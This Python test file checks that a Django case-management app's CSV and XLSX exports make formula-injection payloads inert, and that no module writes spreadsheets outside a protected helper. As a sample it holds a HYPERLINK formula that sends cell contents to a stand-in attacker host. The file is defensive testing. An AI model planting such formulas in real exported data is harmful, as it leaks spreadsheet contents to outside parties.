"""No exported cell can run as a formula in the reader's spreadsheet program (CSV/formula
injection): every CSV and XLSX writer goes through `cases.spreadsheet`, which makes a text that
begins with =, +, -, @, a tab or a carriage return inert."""

import csv
import io
import re
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook

from cases import clock, spreadsheet
from cases.models import Forloeb
from followup import selectors as flag_selectors
from followup.models import Flag
from interchange import evaluation
from tests.factories import FlagFactory, ForloebFactory

ROOT = Path(__file__).resolve().parents[2]
APPS = ("cases", "rehab", "plans", "followup", "interchange", "demo", "config")
FORMULA = '=HYPERLINK("http://angriber.example/?x="&A1,"Klik")'


def test_a_text_a_spreadsheet_would_run_is_made_inert_and_everything_else_is_left_alone():
    for leader in ("=", "+", "-", "@", "\t", "\r"):
        assert spreadsheet.inert(f"{leader}1+1") == f"'{leader}1+1"
    for value in ("Ringer i morgen", "", None, 7, -3, 2.5, "a=b"):
        assert spreadsheet.inert(value) == value


def test_no_module_writes_csv_or_xlsx_except_through_the_inert_writers():
    """A new export must use `cases.spreadsheet`; this fails when one opens its own writer."""
    pattern = re.compile(r"csv\.(writer|DictWriter)\b|\bopenpyxl\b|\bWorkbook\(|xlsxwriter")
    offenders = [
        str(path.relative_to(ROOT))
        for app in APPS
        for path in (ROOT / app).rglob("*.py")
        if path != ROOT / "cases" / "spreadsheet.py" and pattern.search(path.read_text(encoding="utf-8"))
    ]
    assert offenders == []


def test_the_evaluation_csv_writes_a_formula_as_inert_text():
    out = io.StringIO()

    evaluation.write_csv(out, ["team_id", "n"], [{"team_id": FORMULA, "n": 3}])

    row = next(csv.DictReader(io.StringIO(out.getvalue())))
    assert row == {"team_id": "'" + FORMULA, "n": "3"}


def test_the_evaluation_xlsx_writes_a_formula_as_inert_text_never_as_a_formula():
    out = io.BytesIO()

    evaluation.write_xlsx(out, ["team_id", "n"], [{"team_id": FORMULA, "n": 3}], sheet_title="E1")

    with zipfile.ZipFile(io.BytesIO(out.getvalue())) as archive:
        sheet_xml = "".join(archive.read(n).decode() for n in archive.namelist() if n.startswith("xl/worksheets/"))
    assert "<f>" not in sheet_xml
    cells = [c.value for c in load_workbook(io.BytesIO(out.getvalue())).active[2]]
    assert cells == ["'" + FORMULA, 3]


@pytest.mark.django_db
def test_the_flag_csv_writes_a_comment_that_starts_with_a_formula_as_inert_text(team, caseworker):
    forloeb = ForloebFactory(team=team)
    FlagFactory(
        forloeb=forloeb,
        acknowledged_by=caseworker,
        acknowledged_at=clock.now(),
        acknowledge_comment=FORMULA,
    )
    out = io.StringIO()

    flag_selectors.write_flags(out, Flag.objects.filter(forloeb=forloeb), "csv")

    row = next(csv.DictReader(io.StringIO(out.getvalue())))
    assert row["acknowledge_comment"] == "'" + FORMULA
    assert Forloeb.objects.filter(pk=forloeb.pk).exists()
